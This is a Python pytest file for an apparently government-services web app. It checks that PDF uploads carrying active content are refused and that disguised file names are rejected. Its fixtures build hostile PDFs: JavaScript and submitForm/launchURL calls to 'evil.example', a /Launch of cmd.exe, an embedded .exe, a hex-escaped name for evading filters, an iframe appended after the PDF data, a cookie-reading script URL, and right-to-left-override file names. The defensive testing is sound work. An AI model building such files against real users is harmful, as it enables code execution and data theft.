"""Uploads with active content are refused with a message naming what was found, and nothing is
stored: PDFs with JavaScript, actions, embedded files or XFA (built here with pypdf's writer),
PDFs with HTML further in, unparseable PDFs and disguised file names."""

import io
from pathlib import Path

import pytest
from django.core.exceptions import ValidationError
from django.core.files.storage import default_storage
from django.core.files.uploadedfile import SimpleUploadedFile
from pypdf import PdfWriter
from pypdf.actions import JavaScript, PageTrigger
from pypdf.annotations import Link
from pypdf.generic import (
    ArrayObject,
    DecodedStreamObject,
    DictionaryObject,
    NameObject,
    TextStringObject,
)

from tongban.core import attachments
from tongban.core.models import Attachment


def _bytes(writer: PdfWriter) -> bytes:
    buffer = io.BytesIO()
    writer.write(buffer)
    return buffer.getvalue()


def _writer() -> PdfWriter:
    writer = PdfWriter()
    writer.add_blank_page(595, 842)
    return writer


def _action(kind: str, **entries) -> DictionaryObject:
    action = DictionaryObject({NameObject("/Type"): NameObject("/Action"), NameObject("/S"): NameObject(kind)})
    action.update({NameObject(f"/{k}"): v for k, v in entries.items()})
    return action


def document_javascript():
    writer = _writer()
    writer.add_open_action(JavaScript("app.alert('x');"))
    return _bytes(writer)


def open_action_javascript():
    writer = _writer()
    writer.root_object[NameObject("/OpenAction")] = _action("/JavaScript", JS=TextStringObject("app.alert(1)"))
    return _bytes(writer)


def open_action_uri():
    writer = _writer()
    writer.root_object[NameObject("/OpenAction")] = _action("/URI", URI=TextStringObject("http://evil.example/"))
    return _bytes(writer)


def page_additional_action():
    writer = _writer()
    writer.pages[0].add_action(PageTrigger.OPEN, JavaScript("this.submitForm('http://evil.example/')"))
    return _bytes(writer)


def catalog_additional_action():
    writer = _writer()
    writer.root_object[NameObject("/AA")] = DictionaryObject(
        {NameObject("/WC"): _action("/GoTo", D=ArrayObject([writer.pages[0].indirect_reference, NameObject("/Fit")]))})
    return _bytes(writer)


def link_launching_a_program():
    writer = _writer()
    link = Link(rect=(50, 50, 200, 80), url="http://example.gov.cn/")
    link[NameObject("/A")] = _action("/Launch", F=TextStringObject("C:\\Windows\\System32\\cmd.exe"))
    writer.add_annotation(0, link)
    return _bytes(writer)


def link_with_javascript():
    writer = _writer()
    link = Link(rect=(50, 50, 200, 80), url="http://example.gov.cn/")
    link[NameObject("/A")] = _action("/JavaScript", JS=TextStringObject("app.launchURL('http://evil.example/')"))
    writer.add_annotation(0, link)
    return _bytes(writer)


def embedded_file():
    writer = _writer()
    writer.add_attachment("说明.exe", b"MZ\x90\x00")
    return _bytes(writer)


def xfa_form():
    writer = _writer()
    xfa = DecodedStreamObject()
    xfa.set_data(b"<xdp:xdp xmlns:xdp='http://ns.adobe.com/xdp/'></xdp:xdp>")
    writer.root_object[NameObject("/AcroForm")] = DictionaryObject(
        {NameObject("/Fields"): ArrayObject(), NameObject("/XFA"): writer._add_object(xfa)})
    return _bytes(writer)


def obfuscated_javascript_name():
    # /J#61vaScript is /JavaScript written with a hex escape, to slip past a byte search.
    return document_javascript().replace(b"/JavaScript", b"/J#61vaScript")


def unreachable_additional_action():
    # An object that nothing points to: the parser's walk never meets it, the raw check does.
    writer = _writer()
    writer._add_object(DictionaryObject({NameObject("/AA"): DictionaryObject()}))
    return _bytes(writer)


def html_after_a_pdf_start():
    return _bytes(_writer()) + b"\n<!-- -->\n<HTML><body><IFRAME src='http://evil.example/'></IFRAME></body></HTML>\n"


def script_url_deep_inside():
    # Far past the first 512 bytes, in an uncompressed page content stream.
    writer = _writer()
    content = DecodedStreamObject()
    content.set_data(b"% " + b"x" * 4000 + b"\nBT /F1 12 Tf 72 720 Td (JavaScript:alert(document.cookie)) Tj ET\n")
    writer.pages[0][NameObject("/Contents")] = writer._add_object(content)
    return _bytes(writer)


def _stored_files() -> list[Path]:
    root = Path(default_storage.location)
    return [p for p in root.rglob("*") if p.is_file()] if root.exists() else []


@pytest.mark.parametrize(
    ("make", "named"),
    [
        (document_javascript, "JavaScript"),
        (open_action_javascript, "/OpenAction"),
        (open_action_uri, "/OpenAction"),
        (page_additional_action, "/AA"),
        (catalog_additional_action, "/AA"),
        (link_launching_a_program, "/Launch"),
        (link_with_javascript, "JavaScript"),
        (embedded_file, "/EmbeddedFiles"),
        (xfa_form, "/XFA"),
        (obfuscated_javascript_name, "JavaScript"),
        (unreachable_additional_action, "/AA"),
        (html_after_a_pdf_start, "网页或脚本代码"),
        (script_url_deep_inside, "网页或脚本代码"),
    ],
)
def test_a_pdf_with_active_content_is_refused_naming_it_and_nothing_is_stored(db, make, named):
    data = make()
    assert data.startswith(b"%PDF-")
    with pytest.raises(ValidationError) as exc:
        attachments.store(SimpleUploadedFile("营业执照.pdf", data, content_type="application/pdf"), label="营业执照")
    message = exc.value.messages[0]
    assert message.startswith("“营业执照”：") and named in message and "不能上传" in message
    assert not Attachment.objects.exists()
    assert _stored_files() == []


@pytest.mark.parametrize(
    "data",
    [
        b"%PDF-1.4\n1 0 obj<<>>endobj\ntrailer<<>>\n%%EOF\n",  # no catalog, no cross-reference table
        b"%PDF-1.7\n" + bytes(range(256)) * 40,
        b"%PDF-",
    ],
    ids=["no-catalog", "garbage", "header-only"],
)
def test_a_pdf_that_cannot_be_parsed_is_refused(db, data):
    with pytest.raises(ValidationError, match="文件已损坏或不是有效的 PDF"):
        attachments.store(SimpleUploadedFile("扫描件.pdf", data))
    assert not Attachment.objects.exists() and _stored_files() == []


def test_an_encrypted_pdf_is_refused_because_it_cannot_be_inspected(db):
    writer = _writer()
    writer.encrypt("open-sesame")
    with pytest.raises(ValidationError, match="PDF 已加密"):
        attachments.store(SimpleUploadedFile("扫描件.pdf", _bytes(writer)))
    assert not Attachment.objects.exists()


@pytest.mark.parametrize(
    ("name", "extension"),
    [
        ("营业执照.exe.pdf", ".exe"),
        ("营业执照.JS.pdf", ".js"),
        ("委托书.html.jpg", ".html"),
        ("规划许可证.scr .pdf", ".scr"),
        ("报告.pdf.bat", ".bat"),
    ],
)
def test_a_double_extension_is_refused(db, name, extension):
    with pytest.raises(ValidationError) as exc:
        attachments.store(SimpleUploadedFile(name, _bytes(_writer())))
    assert extension in exc.value.messages[0] and "扩展名" in exc.value.messages[0]
    assert not Attachment.objects.exists() and _stored_files() == []


def test_a_name_that_hides_its_extension_with_a_direction_control_is_refused(db):
    with pytest.raises(ValidationError, match="不可见字符"):
        attachments.store(SimpleUploadedFile("报告\u202efdp.exe", _bytes(_writer())))


def test_ordinary_pdfs_and_names_are_accepted(db):
    from fpdf import FPDF

    # fpdf2 (as Tongban's own documents) writes an /OpenAction that only opens at the first page.
    pdf = FPDF()
    pdf.add_page()
    pdf.set_font("helvetica", size=12)
    pdf.cell(0, 10, "scanned material", new_x="LMARGIN", new_y="NEXT")
    produced = bytes(pdf.output())
    assert b"/OpenAction" in produced
    writer = _writer()
    writer.add_uri(0, "https://www.gov.cn/", [50, 50, 200, 80])  # an ordinary web link
    for name, data in [("张三.身份证.2024.pdf", produced), ("规划许可证.pdf", _bytes(writer))]:
        stored = attachments.store(SimpleUploadedFile(name, data))
        assert stored.content_type == "application/pdf" and stored.original_name == name
    assert len(_stored_files()) == 2


def test_check_all_looks_at_every_file_before_any_is_stored(db):
    """A submission of several files: the refusal of the last leaves nothing of the first on disk,
    and every refused file is named under its own field."""
    good = SimpleUploadedFile("规划许可证.pdf", _bytes(_writer()))
    uploads = {
        "material_1": (good, "规划许可证"),
        "material_2": (SimpleUploadedFile("图纸.pdf", document_javascript()), "施工图"),
        "material_3": (SimpleUploadedFile("委托书.exe.pdf", _bytes(_writer())), "委托书"),
    }
    with pytest.raises(ValidationError) as exc:
        attachments.check_all(uploads)
    errors = exc.value.message_dict
    assert set(errors) == {"material_2", "material_3"}
    assert "“施工图”" in errors["material_2"][0] and "“委托书”" in errors["material_3"][0]
    assert _stored_files() == [] and not Attachment.objects.exists()
    checked = attachments.check_all({"material_1": (SimpleUploadedFile("规划许可证.pdf", _bytes(_writer())), "规划许可证")})
    stored = attachments.save(checked["material_1"])
    assert stored.original_name == "规划许可证.pdf" and len(_stored_files()) == 1
